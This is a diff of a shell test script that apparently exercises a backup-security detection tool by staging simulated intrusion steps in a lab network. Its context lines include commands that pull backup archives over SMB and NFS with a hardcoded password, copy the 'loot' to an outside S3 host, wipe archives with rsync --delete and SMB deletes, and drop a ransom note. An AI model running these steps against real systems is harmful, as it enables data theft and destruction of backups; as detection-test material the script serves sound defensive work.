@@ -57,7 +57,9 @@ assets:
   - { address: 10.99.0.2, name: BACKUP01, roles: [backup-server] }
 EOF
 stamp() { exec node -e 'require("readline").createInterface(process.stdin).on("line", (l) => console.log(Date.now() + " " + l))'; }
-on switch node "$ROOT/bin/backtrail.js" record -i sw0 --case "$CASE" --scope "$WORK/scope.yaml" --json > >(stamp >"$WORK/told") 2>"$WORK/record.err" &
+# In its place, so that it is told itself to end and reads what was recorded to its end.
+(exec ip netns exec "$RUN-switch" node "$ROOT/bin/backtrail.js" record -i sw0 --case "$CASE" --scope "$WORK/scope.yaml" --json) \
+  > >(stamp >"$WORK/told") 2>"$WORK/record.err" &
 RECORDING=$!
 until grep -q '"evaluatedAt":"' "$WORK/told" 2>/dev/null; do sleep 0.5; done
 
@@ -106,7 +108,7 @@ step "Archives read by SMB" "BT-CO-001" smb intruder 'backup-op%Repo-Pass-1' "cd
 step "An archive read over NFS" "BT-CO-001" on intruder nfs-cp "nfs://10.99.0.1/backups/jobs/FS04.vbk?version=3" "$WORK/loot/FS04.vbk"
 step "Loot sent outside with rclone to S3" "BT-EX-001" store http://203.0.113.50:9000 copy "$WORK/loot" :s3:drop/x
 step "An empty folder put over the archives by rsync --delete" "BT-TI-024" eval 'mkdir -p $WORK/empty; cp $WORK/FS05.vbk $WORK/empty; on intruder rsync -r --delete $WORK/empty/ rsync://10.99.0.1/backups/jobs/'
-nightly >/dev/null 2>&1
+nightly >>"$WORK/out" 2>&1 || true
 step "Archives deleted by SMB" "BT-TI-001" smb intruder 'backup-op%Repo-Pass-1' 'cd jobs; del *.vbk'
 step "A ransom note left by SMB" "BT-TI-038" eval 'echo pay >$WORK/how-to-get-back.txt; smb intruder backup-op%Repo-Pass-1 "put $WORK/how-to-get-back.txt how-to-get-back.txt"'
 step "Objects deleted with rclone" "BT-TI-012" store http://10.99.0.1:9000 delete :s3:backups/veeam
